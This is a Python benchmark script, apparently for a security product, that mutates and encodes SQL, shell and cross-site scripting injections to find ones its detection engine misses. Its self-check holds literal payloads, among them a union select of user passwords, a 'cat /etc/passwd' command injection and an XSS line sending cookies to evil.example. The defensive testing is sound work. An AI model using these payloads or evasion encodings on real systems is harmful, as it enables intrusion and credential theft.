"""Searches for attacks that the Injection Shield doesn't see: mutants of SQL, command and script injections that a real SQLite, a real
dash and a real parser of HTML5 accept, through `eval`. Prints the rates by technique, context and mutator, and the shortest survivors.

usage: bench/mutate.py [--count 100000] [--only sql|shell|xss] [--seed 20240517] [--show 12] [--save FILE] [--limit PERCENT];
fails over --limit
"""

import argparse
import base64
import collections
import json
import os
import random
import sys

sys.dont_write_bytecode = True
import mutants_shell  # noqa: E402
import mutants_sql  # noqa: E402
import mutants_xss  # noqa: E402
from judge_cases import judge  # noqa: E402

ENGINE = os.path.join(os.path.dirname(os.path.abspath(__file__)), "../build/release/1sec-engine")
CLASSES = {"sql": mutants_sql, "shell": mutants_shell, "xss": mutants_xss}
ENCODED_SHARE = 0.2  # The rest as it is: an encoding mustn't hide what a mutation does.
MAX_TRIES = 12  # A mutant wanted: oracles refuse what mutators break.
BATCH = 1000  # For oracles that are another process.


def encoded(dice, text):
    """(name, the text in an encoding that applications take off)"""
    kind = dice.choice(["percent twice", "entities", "escapes", "base64", "%u", "wide letters"])
    if kind == "percent twice":
        return kind, "".join(c if c.isalnum() else "".join("%%%02x" % b for b in c.encode()) for c in text)
    if kind == "entities":
        return kind, "".join(c if c.isalnum() else dice.choice(["&#%d;", "&#x%x;", "&#0%d;"]) % ord(c) for c in text)
    if kind == "escapes":
        return kind, "".join(c if c.isalnum() else "\\u%04x" % ord(c) for c in text)
    if kind == "%u":
        return kind, "".join(c if c.isalnum() else "%%u%04x" % ord(c) for c in text)
    if kind == "wide letters":
        return kind, "".join(chr(ord(c) + 0xFEE0) if "!" <= c <= "~" and dice.random() < 0.5 else c for c in text)
    return kind, base64.b64encode(text.encode()).decode()


def accepted(name, maker, oracle, tries):
    """Different mutants that the oracle accepts, by batches: (how many were made for it, they)."""
    seen = set()
    for begin in range(0, tries, BATCH):
        fresh = []
        for mutant in (maker.mutant() for _ in range(min(BATCH, tries - begin))):
            if mutant[-1] not in seen:
                seen.add(mutant[-1])
                fresh.append(mutant)
        asked = [(context, text) for context, _, _, text in fresh]
        alive = oracle.are_attacks(asked) if name == "xss" else [oracle.is_attack(*one) for one in asked]
        yield begin + BATCH, [mutant for mutant, lives in zip(fresh, alive) if lives]


def search(name, count, seed):
    """`count` different mutants that the oracle accepts: (tags, text)."""
    maker, oracle, dice = CLASSES[name].Maker(seed), CLASSES[name].Oracle(), random.Random(seed + 1)
    found, tries = [], 0
    for tries, mutants in accepted(name, maker, oracle, count * MAX_TRIES):
        for context, technique, used, text in mutants[: count - len(found)]:
            encoding = "none"
            if dice.random() < ENCODED_SHARE:
                encoding, text = encoded(dice, text)
            found.append(
                (
                    {
                        "technique": technique,
                        "context": context,
                        "mutators": "+".join(used) or "none",
                        "encoding": encoding,
                    },
                    text,
                )
            )
        if len(found) == count:
            break
    print("%s: %d mutants accepted of %d made" % (name, len(found), tries))
    return found


def missed(found):
    """Indices of those that the engine takes for harmless."""
    cases = [(tags["technique"], {"payload": text}) for tags, text in found]
    return judge(ENGINE, "malicious", cases)


def keys(tags, axis):
    return tags[axis].split("+") if axis == "mutators" else [tags[axis]]


def report(name, found, survivors, show):
    print("\n%s: %d of %d survive, %.3f %%" % (name, len(survivors), len(found), 100 * len(survivors) / len(found)))
    for axis in ("technique", "context", "encoding", "mutators"):
        all_of = collections.Counter(key for tags, _ in found for key in keys(tags, axis))
        left = collections.Counter(key for i in survivors for key in keys(found[i][0], axis))
        rows = sorted(all_of, key=lambda key: -left[key] / all_of[key])[:10]
        print(
            "  by %s: %s"
            % (
                axis,
                "; ".join(
                    "%s %d/%d = %.2f %%" % (key, left[key], all_of[key], 100 * left[key] / all_of[key]) for key in rows
                ),
            )
        )
    for technique in sorted({found[i][0]["technique"] for i in survivors}):
        mine = sorted(
            (found[i] for i in survivors if found[i][0]["technique"] == technique),
            key=lambda one: (one[0]["encoding"] != "none", len(one[1])),
        )
        print("  survivors, %s:" % technique)
        for tags, text in mine[:show]:
            print(
                "    %s  (%s; %s%s)"
                % (
                    json.dumps(text, ensure_ascii=False),
                    tags["context"],
                    tags["mutators"],
                    "" if tags["encoding"] == "none" else "; " + tags["encoding"],
                )
            )


def show_that_it_judges():
    """The counter-proof: an oracle that accepts harmless values, or an engine that misses everything, says nothing of survivors."""
    oracle = mutants_sql.Oracle()
    for context, text in [
        ("string", "anna"),
        ("string", "O''Brien"),
        ("number", "42"),
        ("pattern", "a_b"),
        ("string", "7' union select"),
        ("number", "1)"),
    ]:
        if oracle.is_attack(context, text):
            raise SystemExit("the oracle of SQL takes %r for an attack" % text)
    if not oracle.is_attack("string", "7' union select name,password from users-- "):
        raise SystemExit("the oracle of SQL refuses a plain attack")
    if mutants_shell.Oracle().is_attack("single quotes", "x'; cat /etc/passwd") or not mutants_shell.Oracle().is_attack(
        "bare", "x; cat /etc/passwd"
    ):
        raise SystemExit("the oracle of shells is wrong")
    oracle = mutants_xss.Oracle()
    for context, text in [
        ("text", "<b>x</b>"),
        ("text", "onclick=alert(1)"),
        ("text", "&lt;script&gt;alert(1)&lt;/script&gt;"),
        ("text", "<img src=x onerror=nothing(1)>"),
        ("text", "<p onload=alert(1)>"),
        ("text", "<script type=text/plain>alert(1)</script>"),
        ("double quotes", "' onfocus=alert(1) '"),
        ("address", "https://example.org/javascript:alert(1)"),
        ("string in single quotes", "it is; alert(1)"),
        ("textarea", "<script>alert(1)</script>"),
        ("comment", "<script>alert(1)</script>"),
    ]:
        if oracle.is_attack(context, text):
            raise SystemExit("the oracle of scripts takes %r for an attack" % text)
    for context, text in [
        ("text", "<script>alert(1)</script>"),
        ("double quotes", '" autofocus onfocus=alert(1) x="'),
        ("address", "java\tscript:alert(1)"),
        ("string in single quotes", "'-alert(1)-'"),
        ("comment", "--><img src onerror=location='//evil.example/'+cookie>"),
    ]:
        if not oracle.is_attack(context, text):
            raise SystemExit("the oracle of scripts refuses %r" % text)
    tags = {"technique": "counter-proof"}
    if missed(
        [
            (tags, "7' union select name,password from users-- "),
            (tags, "x; cat /etc/passwd"),
            (tags, "<script>alert(1)</script>"),
            (tags, "anna"),
        ]
    ) != [3]:
        raise SystemExit("the engine should see three plain attacks and no harmless value")


def main():
    parser = argparse.ArgumentParser()
    parser.add_argument("--count", type=int, default=100_000)
    parser.add_argument("--only", choices=sorted(CLASSES))
    parser.add_argument("--seed", type=int, default=20240517)
    parser.add_argument("--show", type=int, default=12)
    parser.add_argument("--save", help="file for all survivors, as lines of JSON")
    parser.add_argument(
        "--limit", type=float, default=100.0, help="percent of survivors of a class over which it fails"
    )
    options = parser.parse_args()
    show_that_it_judges()
    failed = False
    for name in [options.only] if options.only else sorted(CLASSES):
        found = search(name, options.count, options.seed)
        if not found:
            raise SystemExit("no mutant was accepted: the oracle doesn't work")
        survivors = missed(found)
        report(name, found, survivors, options.show)
        if options.save:
            with open(options.save, "a") as f:
                for i in survivors:
                    print(json.dumps({"class": name, **found[i][0], "text": found[i][1]}), file=f)
        failed = failed or 100 * len(survivors) / len(found) > options.limit
    return 1 if failed else 0


if __name__ == "__main__":
    sys.exit(main())
